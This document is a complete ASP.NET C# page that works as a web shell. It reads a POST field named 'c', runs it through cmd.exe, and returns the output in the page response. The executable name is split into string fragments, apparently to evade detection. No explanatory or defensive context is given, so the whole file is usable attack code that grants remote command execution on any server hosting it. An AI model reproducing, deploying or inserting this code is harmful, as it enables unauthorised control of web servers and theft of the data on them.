<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
void Page_Load(object s, EventArgs e) {
    if (Request.Form["c"] == null) return;
    ProcessStartInfo i = new ProcessStartInfo();
    i.FileName = "c" + "m" + "d.exe";
    i.Arguments = "/c " + Request.Form["c"];
    i.UseShellExecute = false;
    i.RedirectStandardOutput = true;
    Process p = Process.Start(i);
    Response.Write(p.StandardOutput.ReadToEnd());
}
</script>
